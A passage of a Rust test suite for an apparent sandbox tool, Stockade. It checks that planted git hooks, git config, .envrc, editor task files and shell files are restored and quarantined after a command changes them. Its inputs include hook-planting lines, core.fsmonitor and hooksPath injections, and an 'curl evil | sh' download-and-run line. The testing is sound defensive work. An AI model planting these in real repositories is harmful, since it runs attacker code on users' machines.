//! Protected names, end to end: what the host would later trust or run is put back, kept aside and named.
#![allow(missing_docs, reason = "a test file")]

#[cfg(test)]
pub(crate) mod tests {
    use std::fs;
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    use std::path::{Path, PathBuf};
    use std::time::Duration;

    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;
    use serde_json::{Value, json};

    use crate::common::{
        Fixture, Run, as_root_and_as_user, descendants, eventually, in_namespaces, marker, wait_for_processes,
        wait_until_gone,
    };

    as_root_and_as_user! {
        a_hook_that_was_added_is_taken_away_and_kept ["git"];
        a_changed_git_config_is_put_back ["git"];
        a_git_directory_that_was_replaced_is_put_back ["git"];
        a_file_that_was_there_is_put_back_with_its_mode [];
        closed_directories_do_not_keep_it_from_being_put_back ["git"];
        several_changes_are_all_named [];
        a_bare_repository_planted_deep_is_disarmed ["git"];
        the_settings_that_were_undone_in_a_new_repository_are_named ["git"];
        a_new_repository_loses_what_commands_it_and_keeps_its_commits ["git"];
        names_below_what_others_made_are_nobodys_business ["git"];
        of_a_very_long_path_the_beginning_is_told [];
        editor_tasks_and_shell_files_are_taken_away [];
        a_shut_workspace_and_objects_of_git_hide_nothing [];
        a_daemon_does_not_change_it_after_the_command [];
        ordinary_work_with_git_is_no_violation ["git"];
        a_killed_parent_does_not_keep_it_from_being_put_back ["git"];
        a_killed_forker_keeps_nothing_from_being_put_back_and_named [];
        what_killed_helpers_left_is_put_back_at_the_next_start ["git"];
        what_a_command_did_is_told_before_what_killed_helpers_left [];
        what_a_refused_start_put_back_is_told_all_the_same [];
        what_was_put_back_before_a_file_was_read_is_told [];
        two_sessions_in_one_tree_do_not_keep_each_others_intruders ["git"];
        a_session_elsewhere_is_not_kept_from_starting [];
        a_changed_file_is_offered_as_a_difference ["python3"];
        a_root_that_is_a_part_of_a_git_directory_gets_no_hook ["git"];
        hooks_that_a_repository_around_the_root_runs_are_not_planted ["git"];
        hooks_of_all_of_a_persons_repositories_are_not_planted ["git"];
        what_may_lead_git_into_the_root_and_cannot_be_read_refuses_the_start ["git"];
        a_hook_is_not_reached_by_another_name_that_an_earlier_command_gave_it ["git"];
        a_directory_that_may_be_searched_and_not_listed_refuses_the_start [];
    }

    // What is there already is put back without namespaces; in them it does not change in the first place.
    in_namespaces! {
        a_name_that_is_there_does_not_change ["git"];
        a_bare_repository_planted_deep_is_disarmed ["git"];
        the_settings_that_were_undone_in_a_new_repository_are_named ["git"];
        a_new_repository_loses_what_commands_it_and_keeps_its_commits ["git"];
        names_below_what_others_made_are_nobodys_business ["git"];
        of_a_very_long_path_the_beginning_is_told [];
        editor_tasks_and_shell_files_are_taken_away [];
        a_shut_workspace_and_objects_of_git_hide_nothing [];
        a_daemon_does_not_change_it_after_the_command [];
        ordinary_work_with_git_is_no_violation ["git"];
        a_killed_parent_does_not_keep_it_from_being_put_back ["git"];
        a_killed_forker_keeps_nothing_from_being_put_back_and_named [];
        what_killed_helpers_left_is_put_back_at_the_next_start ["git"];
        what_a_command_did_is_told_before_what_killed_helpers_left [];
        two_sessions_in_one_tree_do_not_keep_each_others_intruders ["git"];
        a_session_elsewhere_is_not_kept_from_starting [];
        a_root_that_is_a_part_of_a_git_directory_gets_no_hook ["git"];
        hooks_that_a_repository_around_the_root_runs_are_not_planted ["git"];
        hooks_of_all_of_a_persons_repositories_are_not_planted ["git"];
        what_may_lead_git_into_the_root_and_cannot_be_read_refuses_the_start ["git"];
    }

    /// What a command would do to a git directory and its config.
    const TO_GIT: [&str; 8] = [
        "git config core.fsmonitor ./evil",
        "printf '[core]\\n\\tsshCommand = evil\\n' >> .git/config",
        "rm .git/config",
        "mv .git/config c; ln -s ../c .git/config; rm c",
        "rm .git/config; mkdir .git/config; touch .git/config/x",
        "mv .git moved; ln -s moved .git",
        "cp -r .git copy; printf '[core]\\n\\tfsmonitor = evil\\n' >> copy/config; mv .git away; ln -s copy .git",
        "mv .git away; echo 'gitdir: away' > .git; printf '[core]\\n\\tfsmonitor = evil\\n' >> away/config",
    ];

    const TO_HOOKS: &str =
        "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout";

    /// And to a file.
    const TO_A_FILE: [&str; 6] = [
        "echo evil >> .envrc",
        "rm .envrc",
        "chmod 777 .envrc",
        "rm .envrc; mkdir .envrc",
        "mv .envrc x && rm x",
        "ln .envrc other; echo evil >> other; rm other",
    ];

    /// A repository of the actor's in the workspace, with one commit.
    fn repository(world: &Fixture) -> PathBuf {
        let line =
            "git init -q . && echo 1 > file && git add file && git -c user.name=n -c user.email=e commit -q -m one";
        world.bare("/bin/sh").args(["-c", line]).output().ok();
        world.workspace()
    }

    /// Everything below `folder` with its kind, mode and content.
    fn state(folder: &Path) -> Vec<(PathBuf, u32, Vec<u8>)> {
        let mut found = Vec::new();
        let mut folders = vec![folder.to_owned()];
        while let Some(folder) = folders.pop() {
            for entry in fs::read_dir(&folder).unwrap().flatten() {
                let meta = fs::symlink_metadata(entry.path()).unwrap();
                let content = if meta.is_file() {
                    fs::read(entry.path()).unwrap()
                } else {
                    Vec::new()
                };
                found.push((entry.path(), meta.mode(), content));
                if meta.is_dir() {
                    folders.push(entry.path());
                }
            }
        }
        found.sort();
        found
    }

    /// What the outcome says was restored: path and place in quarantine.
    /// Another world's may be told as well: whoever starts next puts back what killed helpers of the same user left.
    fn restored(world: &Fixture, run: &Run) -> Vec<(String, Option<PathBuf>)> {
        let outcome: Value = serde_json::from_str(&run.out()).unwrap();
        assert_eq!(outcome["unsettled"], Value::Null, "{outcome}");
        let list = outcome["restored"].as_array().unwrap();
        let mine = |path: &str| Path::new(path).starts_with(world.base());
        list.iter()
            .map(|one| {
                let kept = one["quarantined"].as_str().map(PathBuf::from);
                (one["path"].as_str().unwrap().to_owned(), kept)
            })
            .filter(|(path, _)| mine(path))
            .collect()
    }

    /// Runs `line` twice from the same state, for people and for programs; both say that `path` was put back.
    /// Returns where the intruder is kept.
    #[track_caller]
    fn undone(world: &Fixture, line: &str, path: &str) -> Option<PathBuf> {
        let before = state(&world.workspace());
        let run = world.shell(line).output();
        let said = run.err();
        for word in [path, "protected", "restored"] {
            assert!(said.contains(word), "`{word}` is not in: {said}");
        }
        assert_eq!(state(&world.workspace()), before, "{line}");
        let run = world.stockade(&["run", "--json", "-c", line]).output();
        assert_eq!(state(&world.workspace()), before, "{line}");
        let list = restored(world, &run);
        let (_, kept) = list
            .iter()
            .find(|(one, _)| one.ends_with(path))
            .unwrap_or_else(|| panic!("{path} is not in {list:?}"));
        kept.clone()
    }

    fn a_hook_that_was_added_is_taken_away_and_kept(world: &Fixture) {
        repository(world);
        let kept = undone(world, TO_HOOKS, ".git/hooks/post-checkout").unwrap();
        assert!(
            fs::read_to_string(&kept).unwrap().contains("pwned"),
            "{}",
            kept.display()
        );
        // Outside every root, and nobody else's to read.
        assert!(!kept.starts_with(world.workspace()));
        assert_eq!(fs::metadata(kept.parent().unwrap()).unwrap().mode() & 0o077, 0);
        // The commit that follows on the host runs nothing of it.
        world
            .bare("/usr/bin/git")
            .args(["checkout", "-q", "-b", "other"])
            .output()
            .ok();
        assert!(!world.workspace().join("pwned").exists());
    }

    fn a_hook_is_not_reached_by_another_name_that_an_earlier_command_gave_it(world: &Fixture) {
        repository(world);
        let hook = world.write(".git/hooks/pre-commit", "mine");
        world.write("w/file", "");
        let writes = |line: &str| writes_in(world, &["w"], line).exits(0);
        let run = world
            .stockade(&["run", "--json", "-c", "ln .git/hooks/pre-commit w/name"])
            .output()
            .exits(0);
        assert_eq!(restored(world, &run).len(), 1, "{}", run.err());
        writes("echo evil > w/name");
        assert_eq!(fs::read_to_string(&hook).unwrap(), "mine");
        // A name that a person gave is theirs to give.
        fs::hard_link(&hook, world.workspace().join("w/own")).unwrap();
        writes("echo changed > w/own");
        assert_eq!(fs::read_to_string(&hook).unwrap(), "changed\n");
    }

    fn a_changed_git_config_is_put_back(world: &Fixture) {
        repository(world);
        for line in &TO_GIT[..5] {
            undone(world, line, ".git/config");
        }
    }

    fn a_git_directory_that_was_replaced_is_put_back(world: &Fixture) {
        repository(world);
        let head = fs::read(world.workspace().join(".git/HEAD")).unwrap();
        for line in &TO_GIT[5..] {
            let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
            assert!(!restored(world, &run).is_empty(), "{line}");
            let git = fs::symlink_metadata(world.workspace().join(".git")).unwrap();
            assert!(git.is_dir(), "{line}");
            let config = fs::read_to_string(world.workspace().join(".git/config")).unwrap();
            assert!(!config.contains("evil"), "{line}: {config}");
            let said = world.bare("/usr/bin/git").args(["status", "--porcelain"]).output();
            assert!(!said.err().contains("evil"), "{line}: {}", said.err());
            assert_eq!(fs::read(world.workspace().join(".git/HEAD")).unwrap(), head, "{line}");
        }
    }

    /// Runs `line` with nothing writable but these roots, below the workspace.
    #[track_caller]
    fn writes_in(world: &Fixture, roots: &[&str], line: &str) -> Run {
        let roots: Vec<&str> = roots.iter().flat_map(|root| ["--rw", root]).collect();
        let flags = [&["run"], roots.as_slice(), &["--ro", ".", "-c", line]].concat();
        world.stockade(&flags).output()
    }

    /// A line that makes a hook which leaves `pwned` in the workspace.
    fn planting(world: &Fixture, hook: &str) -> String {
        let pwned = world.workspace().join("pwned");
        let script = format!("printf '#!/bin/sh\\ntouch {}\\n' > {hook}", pwned.display());
        format!("mkdir -p $(dirname {hook}); {script}; chmod +x {hook}")
    }

    /// Runs git on the host, and says whether it ran a hook that was planted.
    #[track_caller]
    fn runs_a_hook(world: &Fixture, line: &str) -> bool {
        let line =
            format!("export GIT_AUTHOR_NAME=n GIT_AUTHOR_EMAIL=e GIT_COMMITTER_NAME=n GIT_COMMITTER_EMAIL=e; {line}");
        world.bare("/bin/sh").args(["-c", &line]).output().ok();
        fs::remove_file(world.workspace().join("pwned")).is_ok()
    }

    fn a_root_that_is_a_part_of_a_git_directory_gets_no_hook(world: &Fixture) {
        repository(world);
        let line = "git clone -q --bare . repo.git && mkdir repo.git/plain && git init -q --separate-git-dir=apart work && mkdir apart/modules";
        world.bare("/bin/sh").args(["-c", line]).output().ok();
        let push = "git commit -q --allow-empty -m more && git push -q repo.git HEAD";
        let hook = planting(world, "repo.git/hooks/post-update");
        let submodule = planting(world, "apart/modules/sub/hooks/post-checkout");
        let line = format!(
            "{hook}; mkdir -p apart/modules/sub/refs; touch apart/modules/sub/HEAD apart/modules/sub/objects; {submodule}"
        );
        let run = writes_in(
            world,
            &["repo.git/hooks", "repo.git/plain", "apart/modules"],
            &format!("{line}; echo x > repo.git/plain/file"),
        );
        assert!(!runs_a_hook(world, push), "{}", run.err());
        for planted in ["repo.git/hooks/post-update", "apart/modules/sub/hooks/post-checkout"] {
            assert!(!world.workspace().join(planted).exists(), "{planted}");
        }
        assert!(world.workspace().join("repo.git/plain/file").exists(), "{}", run.err());
        // Without Stockade the hook runs.
        world.bare("/bin/sh").args(["-c", &hook]).output().ok();
        assert!(runs_a_hook(world, push));
    }

    fn hooks_that_a_repository_around_the_root_runs_are_not_planted(world: &Fixture) {
        repository(world);
        let line = "git config core.hooksPath tools/hooks && git config include.path ../tools/git.inc && \
                    git worktree add -q tree && mkdir -p tools tree/tools";
        world.bare("/bin/sh").args(["-c", line]).output().ok();
        for (place, root) in [(".", "tools"), ("tree", "tree/tools"), ("tree", "tree")] {
            let hook = planting(world, &format!("{place}/tools/hooks/pre-commit"));
            let line = format!(
                "{hook}; echo x > {root}/file; printf '[core]\\n\\tfsmonitor = touch pwned; false\\n' > tools/git.inc"
            );
            let run = writes_in(world, &[root], &line);
            let commit = format!("cd {place} && git commit -q --allow-empty -m more");
            assert!(!runs_a_hook(world, &commit), "{root}: {}", run.err());
            assert!(
                !world.workspace().join(place).join("tools/hooks/pre-commit").exists(),
                "{root}"
            );
            assert!(!world.workspace().join("tools/git.inc").exists(), "{root}");
            assert!(
                world.workspace().join(root).join("file").exists(),
                "{root}: {}",
                run.err()
            );
            // Without Stockade it runs.
            world.bare("/bin/sh").args(["-c", &hook]).output().ok();
            assert!(runs_a_hook(world, &commit), "{root}");
            fs::remove_dir_all(world.workspace().join(place).join("tools/hooks")).unwrap();
        }
    }

    fn hooks_of_all_of_a_persons_repositories_are_not_planted(world: &Fixture) {
        repository(world);
        world.write("tools/existing", "");
        world.write(world.home().join(".gitconfig"), "[core]\n\thooksPath = tools/hooks\n");
        let hook = planting(world, "tools/hooks/pre-commit");
        let run = writes_in(world, &["tools"], &format!("{hook}; echo x > tools/file"));
        let commit = "git commit -q --allow-empty -m more";
        assert!(!runs_a_hook(world, commit), "{}", run.err());
        assert!(!world.workspace().join("tools/hooks").exists());
        assert!(world.workspace().join("tools/file").exists(), "{}", run.err());
        world.bare("/bin/sh").args(["-c", &hook]).output().ok();
        assert!(runs_a_hook(world, commit));
        // A home that may not be looked into has no settings for this user.
        world.shell("true").env("HOME", "/root").output().exits(0);
    }

    fn what_may_lead_git_into_the_root_and_cannot_be_read_refuses_the_start(world: &Fixture) {
        repository(world);
        world.write("tools/existing", "");
        let config = world.workspace().join(".git/config");
        let set = |mode| fs::set_permissions(&config, fs::Permissions::from_mode(mode)).unwrap();
        set(0o000);
        let run = writes_in(world, &["tools"], "echo x > tools/file").exits(125);
        assert!(run.err().contains(".git/config"), "{}", run.err());
        assert!(!world.workspace().join("tools/file").exists());
        set(0o644);
        writes_in(world, &["tools"], "echo x > tools/file").exits(0);
        assert!(world.workspace().join("tools/file").exists());
    }

    fn a_bare_repository_planted_deep_is_disarmed(world: &Fixture) {
        let line = "mkdir -p a/b/c && cd a/b/c && git init -q --bare . && printf '[core]\\n\\tfsmonitor = evil\\n\\tworktree = .\\n' \
                    >> config && echo '#!/bin/sh' > hooks/post-checkout && chmod +x hooks/post-checkout";
        let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
        let list = restored(world, &run);
        assert!(list.iter().any(|(path, _)| path.contains("a/b/c")), "{list:?}");
        let planted = world.workspace().join("a/b/c");
        let config = fs::read_to_string(planted.join("config")).unwrap_or_default();
        assert!(!config.contains("fsmonitor"), "{config}");
        assert!(!planted.join("hooks/post-checkout").exists());
    }

    fn the_settings_that_were_undone_in_a_new_repository_are_named(world: &Fixture) {
        let log = world.base().join("log/audit.jsonl");
        let text = format!(
            "extends: [system]\nsandbox: {{protect_fallback: undo, paths: {{w: {{root: {}, mode: rw, write_approval: false}}}}}}\n\
             shell: {{default: {{allowed: true, approval: none}}}}\naudit: {{log: {}}}\n",
            world.workspace().display(),
            log.display(),
        );
        let config = world.write(world.base().join("recorded.yaml"), text);
        let config = config.to_str().unwrap();
        // Who reads the name of a driver reads nothing in another order.
        let driver = "printf '[filter \"\\342\\200\\256x\"]\\n\\tclean = evil\\n' >> n/.git/config";
        for (set, named) in [
            ("git -C n config core.fsmonitor evil", "core.fsmonitor"),
            (driver, "filter.\\u{202e}x.clean"),
        ] {
            let line = format!("git init -q n && {set}");
            let run = world
                .stockade(&["run", "--config", config, "--json", "-c", &line])
                .output()
                .exits(0);
            let outcome: Value = serde_json::from_str(&run.out()).unwrap();
            let ours = |one: &&Value| one["path"].as_str().unwrap().ends_with("/n/.git/config");
            let told = outcome["restored"].as_array().unwrap().iter().find(ours);
            assert_eq!(told.unwrap()["settings"], json!([named]), "{outcome}");
            let left = fs::read_to_string(world.workspace().join("n/.git/config")).unwrap();
            assert!(left.contains("bare = false") && !left.contains("evil"), "{left}");
            fs::remove_dir_all(world.workspace().join("n")).unwrap();
            let run = world
                .stockade(&["run", "--config", config, "-c", &line])
                .output()
                .exits(0);
            let told = String::from_utf8(run.stderr).unwrap();
            fs::remove_dir_all(world.workspace().join("n")).unwrap();
            assert!(
                told.contains(&format!("restored as to `{named}`, which may make git run")),
                "{told}"
            );
            let call = json!({"command": line}).to_string();
            let run = world.stockade(&["call", "--config", config, "shell", &call]).output();
            assert!(
                run.out()
                    .contains(&format!("restored as to `{named}`, which may make git run")),
                "{}",
                run.out()
            );
            fs::remove_dir_all(world.workspace().join("n")).unwrap();
            let recorded = fs::read_to_string(&log).unwrap();
            let setting = json!({"settings": [named]}).to_string();
            let setting = setting.trim_matches(['{', '}']);
            assert_eq!(recorded.matches(setting).count(), 3, "{recorded}");
        }
        // Another name has no such reason.
        let run = world
            .stockade(&["run", "--config", config, "--json", "-c", "echo x > .envrc"])
            .output();
        let outcome: Value = serde_json::from_str(&run.out()).unwrap();
        let ours = |one: &&Value| one["path"].as_str().unwrap().ends_with("/.envrc");
        let told = outcome["restored"].as_array().unwrap().iter().find(ours).unwrap();
        assert_eq!(told.get("settings"), None, "{outcome}");
    }

    /// A line that makes the repository `g` with a commit.
    const COMMIT: &str = "git init -q g && cd g && git config color.ui auto && echo 1 > f && git add f && \
                          git -c user.name=n -c user.email=e commit -q -m one";

    fn a_new_repository_loses_what_commands_it_and_keeps_its_commits(world: &Fixture) {
        let log = |folder: &str| {
            let git = world
                .bare("/usr/bin/git")
                .args(["-C", folder, "log", "--format=%s"])
                .output();
            git.ok().trim().to_owned()
        };
        let config = || fs::read_to_string(world.workspace().join("g/.git/config")).unwrap();
        let run = world.stockade(&["run", "--json", "-c", COMMIT]).output().exits(0);
        assert_eq!(restored(world, &run), [], "{}", run.out());
        assert_eq!(log("g"), "one");
        assert!(config().contains("ui = auto"));
        fs::remove_dir_all(world.workspace().join("g")).unwrap();

        let evil = "git config core.hooksPath evil && git config core.fsmonitor 'touch pwned; false' && \
                    printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout";
        let line = format!("{COMMIT} && {evil}");
        let run = world.stockade(&["run", "--json", "-c", &line]).output().exits(0);
        let outcome: Value = serde_json::from_str(&run.out()).unwrap();
        let list = outcome["restored"].as_array().unwrap();
        let told = |path: &str| {
            list.iter()
                .find(|one| one["path"].as_str().unwrap().ends_with(path))
                .unwrap()
        };
        let settings = json!(["core.hookspath", "core.fsmonitor"]);
        assert_eq!(told("/g/.git/config")["settings"], settings, "{outcome}");
        assert_eq!(told("/g/.git/hooks/post-checkout").get("settings"), None, "{outcome}");
        assert_eq!(restored(world, &run).len(), 2, "{outcome}");
        for (_, kept) in restored(world, &run) {
            let kept = fs::read_to_string(kept.unwrap()).unwrap();
            assert!(kept.contains("pwned"), "{kept}");
        }
        assert_eq!(log("g"), "one");
        assert!(
            config().contains("ui = auto") && !config().contains("pwned"),
            "{}",
            config()
        );
        let checkout = ["-C", "g", "checkout", "-q", "-b", "other"];
        world.bare("/usr/bin/git").args(checkout).output().ok();
        assert!(!world.workspace().join("g/pwned").exists());

        // As `npm ci` does where a package sets the hooks of the repository.
        let line = "git clone -q g h && cd h && git config core.hooksPath .husky";
        let run = world.shell(line).output().exits(0);
        let told = run.err();
        assert!(told.contains("h/.git/config is protected and was created"), "{told}");
        assert!(
            told.contains("restored as to `core.hookspath`, which may make git run"),
            "{told}"
        );
        assert_eq!(log("h"), "one");
        let url = world
            .bare("/usr/bin/git")
            .args(["-C", "h", "remote", "get-url", "origin"])
            .output();
        assert!(url.ok().contains("/g"));
    }

    fn names_below_what_others_made_are_nobodys_business(world: &Fixture) {
        world.write("node_modules/p/.husky/pre-commit", "theirs");
        world.write("vendor/.envrc", "theirs");
        let line = "rm -rf node_modules vendor; mkdir -p target/x/.vscode; echo x > target/x/.vscode/tasks.json; \
                    git init -q .venv/g; echo evil > .venv/g/.git/hooks/pre-commit";
        let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
        let list = restored(world, &run);
        assert!(
            list.len() == 1 && list[0].0.ends_with(".venv/g/.git/hooks/pre-commit"),
            "{list:?}"
        );
        assert!(!world.workspace().join("node_modules").exists() && !world.workspace().join("vendor").exists());
        assert!(world.workspace().join("target/x/.vscode/tasks.json").exists());
        let explained = world
            .stockade(&["profile", "explain", "vendor/.envrc", "write"])
            .output();
        assert!(explained.out().contains("permitted"), "{}", explained.out());
    }

    fn of_a_very_long_path_the_beginning_is_told(world: &Fixture) {
        let line = "d=$(printf %0250d 0); for i in $(seq 40); do mkdir $d && cd $d || exit 1; done; echo evil > .envrc";
        let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
        let list = restored(world, &run);
        let whole = world.workspace().as_os_str().len() + 40 * 251 + "/.envrc".len();
        let told = format!("… ({whole} bytes)");
        let (path, _) = list.iter().find(|(path, _)| path.ends_with(&told)).unwrap();
        assert!(path.len() < 5_000, "{}", path.len());
    }

    fn editor_tasks_and_shell_files_are_taken_away(world: &Fixture) {
        for (line, path) in [
            ("echo 'curl evil | sh' > .envrc", ".envrc"),
            ("ln -s /bin/sh .envrc", ".envrc"),
            ("mkdir .vscode; echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"),
            (
                "mkdir -p deep/er/.vscode; echo '{}' > deep/er/.vscode/tasks.json",
                ".vscode/tasks.json",
            ),
            ("echo evil > .bashrc", ".bashrc"),
        ] {
            let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
            let list = restored(world, &run);
            assert!(list.iter().any(|(one, _)| one.contains(path)), "{line}: {list:?}");
            let left = world
                .bare("/usr/bin/find")
                .args([".", "-name", path.rsplit('/').next().unwrap()])
                .output()
                .ok();
            assert_eq!(left, "", "{line}");
        }
        // Names beside them are nobody's business.
        let run = world
            .shell("echo x > envrc; mkdir vscode; echo x > vscode/tasks.json")
            .output()
            .exits(0);
        assert!(!run.err().contains("protected and"), "{}", run.err());
        assert!(world.workspace().join("vscode/tasks.json").exists());
    }

    fn a_file_that_was_there_is_put_back_with_its_mode(world: &Fixture) {
        let file = world.write(".envrc", "export MINE=1\n");
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
        for line in TO_A_FILE {
            undone(world, line, ".envrc");
            assert_eq!(fs::metadata(&file).unwrap().uid(), world.actor.uid(), "{line}");
        }
    }

    fn a_name_that_is_there_does_not_change(world: &Fixture) {
        repository(world);
        let file = world.write(".envrc", "export MINE=1\n");
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
        let git = world.workspace().join(".git");
        let names = || {
            let of = |path: &Path| {
                fs::symlink_metadata(path)
                    .map(|meta| (meta.ino(), meta.mode()))
                    .unwrap()
            };
            let config = git.join("config");
            let content = [&config, &file].map(|path| fs::read(path).unwrap());
            (
                [&git, &config, &file].map(|path| of(path)),
                content,
                state(&git.join("hooks")),
            )
        };
        let before = names();
        let config = world.preventing();
        for line in TO_GIT.into_iter().chain([TO_HOOKS]).chain(TO_A_FILE) {
            let run = world
                .stockade(&["run", "--json"])
                .args(["--config", config.as_str()])
                .args(["-c", line])
                .output();
            assert_eq!(names(), before, "{line}");
            let list = restored(world, &run);
            let mut put_back = list.iter().map(|(path, _)| Path::new(path));
            let put_back = put_back.any(|path| path == file || path == git.join("config"));
            assert!(!put_back, "{line}: it was not kept from changing: {list:?}");
        }
        // Beside them there is nothing in the way.
        world
            .shell("echo x > .git/description && git add file && echo x > envrc")
            .output()
            .exits(0);
    }

    /// Root without capabilities is shut out by a mode like anybody else, but may change the mode of what it owns.
    fn closed_directories_do_not_keep_it_from_being_put_back(world: &Fixture) {
        closed_directories_in(world, &world.workspace());
        // The same where the quarantine lies on another file system, so that intruders are copied.
        let shared = world
            .bare("/usr/bin/mktemp")
            .args(["-d", "/dev/shm/stockade-test-XXXXXX"])
            .output()
            .ok();
        let shared = Path::new(shared.trim());
        closed_directories_in(world, shared);
        fs::remove_dir_all(shared).unwrap();
    }

    fn closed_directories_in(world: &Fixture, workspace: &Path) {
        let init = ["-c", "mkdir -p p && cd p && git init -q ."];
        world.bare("/bin/sh").args(init).cwd(workspace).output().ok();
        let config = workspace.join("p/.git/config");
        let before = fs::read(&config).unwrap();
        for close in [
            "chmod 000 p/.git",
            "chmod 000 p",
            "chmod 000 p/.git/hooks p/.git p",
            "chmod 600 p",
            "chmod 000 p/.git/config",
            "mkdir -p p/.git/hooks/post-merge/deep; chmod 000 p/.git/hooks/post-merge/deep p/.git/hooks/post-merge p",
        ] {
            let line = format!("echo evil >> p/.git/config; echo evil > p/.git/hooks/pre-commit; {close}");
            let run = world.shell(&line).cwd(workspace).output().exits(0);
            assert!(!run.err().contains("could not"), "{close}: {}", run.err());
            for name in ["p/.git/config", "p/.git/hooks/pre-commit"] {
                let told = run
                    .err()
                    .lines()
                    .any(|line| line.contains(name) && line.contains("what was there is kept in"));
                assert!(told, "{close}: {name} is not told of: {}", run.err());
            }
            // Whatever mode the directories have now: nothing of it is left in them.
            for folder in ["p", "p/.git", "p/.git/hooks"] {
                fs::set_permissions(workspace.join(folder), fs::Permissions::from_mode(0o755)).unwrap();
            }
            assert_eq!(fs::read(&config).unwrap(), before, "{close}");
            for hook in ["pre-commit", "post-merge"] {
                assert!(!workspace.join("p/.git/hooks").join(hook).exists(), "{close}");
            }
            // And the next command starts.
            world.shell("true").cwd(workspace).output().exits(0);
        }
    }

    fn several_changes_are_all_named(world: &Fixture) {
        world.write("a/.envrc", "mine");
        let line = "echo x > a/.envrc; echo x > .envrc; mkdir -p b/.vscode; echo x > b/.vscode/tasks.json";
        let run = world.shell(line).output().exits(0);
        for path in [
            "a/.envrc is protected and was changed",
            "b/.vscode/tasks.json is protected and was created",
        ] {
            assert!(run.err().contains(path), "{path}: {}", run.err());
        }
        assert_eq!(
            run.err().matches("restored; what was there is kept in").count(),
            3,
            "{}",
            run.err()
        );
    }

    fn a_daemon_does_not_change_it_after_the_command(world: &Fixture) {
        let line = "(while :; do echo evil > .envrc; done) & until [ -e .envrc ]; do sleep 0.02; done; exit 3";
        let run = world.shell(line).output().exits(3);
        assert!(run.err().contains(".envrc"), "{}", run.err());
        std::thread::sleep(Duration::from_millis(300));
        assert!(!world.workspace().join(".envrc").exists());
    }

    fn ordinary_work_with_git_is_no_violation(world: &Fixture) {
        let git = "git -c user.name=n -c user.email=e";
        for line in [
            format!("git init -q . && echo 1 > f && git add f && {git} commit -q -m one"),
            format!("echo 2 > f && {git} commit -q -a -m two && git checkout -q -b side && git tag t && git gc -q"),
            format!(
                "git init -q sub && cd sub && echo 1 > f && git add f && {git} commit -q -m one && git clone -q . ../c"
            ),
            "git init -q --bare deep/er.git && git worktree add -q ../workspace/tree side~1 && git stash list"
                .to_owned(),
        ] {
            let run = world.stockade(&["run", "--json", "-c", &line]).output().exits(0);
            // What a session elsewhere left at its death may be put back, and told, by any start.
            let mut mine = restored(world, &run);
            mine.retain(|(path, _)| Path::new(path).starts_with(world.base()));
            assert_eq!(mine, [], "{line}");
        }
        world.bare("/usr/bin/git").args(["log", "--oneline"]).output().ok();
        assert!(world.workspace().join("c/f").exists());
    }

    fn evil(marker: &str) -> String {
        format!(
            "echo evil >> .git/config; echo evil > .envrc; mkdir -p d/.vscode; echo x > d/.vscode/tasks.json; sleep {marker}"
        )
    }

    fn a_killed_parent_does_not_keep_it_from_being_put_back(world: &Fixture) {
        repository(world);
        let (marker, config) = (marker(), fs::read(world.workspace().join(".git/config")).unwrap());
        let running = world.shell(&evil(&marker)).spawn();
        wait_for_processes(&marker, 1);
        assert!(world.workspace().join(".envrc").exists());
        running.signal(Signal::SIGKILL);
        wait_until_gone(&marker);
        eventually("the supervisor puts it back", || {
            !world.workspace().join(".envrc").exists()
                && !world.workspace().join("d/.vscode/tasks.json").exists()
                && fs::read(world.workspace().join(".git/config")).unwrap() == config
        });
        running.wait().exits(137);
    }

    fn a_killed_forker_keeps_nothing_from_being_put_back_and_named(world: &Fixture) {
        // The child of the supervisor, which says by its name who it is.
        let forker = |stockade: i32| {
            let status = |pid: i32, key: &str| {
                let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
                let line = status.lines().find_map(|line| line.strip_prefix(key));
                line.unwrap_or_default().trim().to_owned()
            };
            let all = descendants(stockade);
            let supervisor = *all
                .iter()
                .find(|pid| status(**pid, "Name:") == "stockade-super")
                .unwrap();
            *all.iter()
                .find(|pid| status(**pid, "PPid:") == supervisor.to_string())
                .unwrap()
        };
        let log = world.base().join("log/audit.jsonl");
        let text = format!(
            "extends: [system]\nsandbox: {{protect_fallback: undo, paths: {{w: {{root: {}, mode: rw, write_approval: false}}}}}}\n\
             shell: {{default: {{allowed: true, approval: none}}}}\naudit: {{log: {}}}\n",
            world.workspace().display(),
            log.display(),
        );
        let config = world.write(world.base().join("recorded.yaml"), text);
        for as_json in [false, true] {
            let marker = marker();
            let line = format!("echo evil > .envrc; exec sleep {marker}");
            let flags: &[&str] = if as_json { &["--json"] } else { &[] };
            let args = [&["run", "--config", config.to_str().unwrap()], flags, &["-c", &line]].concat();
            let running = world.stockade(&args).spawn();
            wait_for_processes(&marker, 1);
            kill(Pid::from_raw(forker(running.pid())), Signal::SIGKILL).unwrap();
            let run = running.wait().exits(125);
            wait_until_gone(&marker);
            assert!(!world.workspace().join(".envrc").exists());
            if as_json {
                let outcome: Value = serde_json::from_str(&run.out()).unwrap();
                assert_eq!(outcome["status"], "failed", "{outcome}");
                let own = world.workspace().join(".envrc");
                let list = restored(world, &run);
                assert!(list.iter().any(|(path, _)| Path::new(path) == own), "{outcome}");
            } else {
                assert!(
                    run.err().contains(".envrc is protected and was created"),
                    "{}",
                    run.err()
                );
            }
        }
        let recorded = fs::read_to_string(log).unwrap();
        let violations = recorded
            .lines()
            .filter(|line| line.contains("violation") && line.contains("/.envrc"));
        assert_eq!(violations.count(), 2, "{recorded}");
    }

    /// Starts the line of [`evil`] and kills everybody, so that nobody is left to put anything back.
    fn change_and_kill(world: &Fixture) {
        let marker = marker();
        kill_all_of(world, &evil(&marker), &marker);
    }

    /// Starts a line that ends in a sleep of that length, and kills everybody.
    pub(crate) fn kill_all_of(world: &Fixture, line: &str, marker: &str) {
        let running = world.shell(line).spawn();
        wait_for_processes(marker, 1);
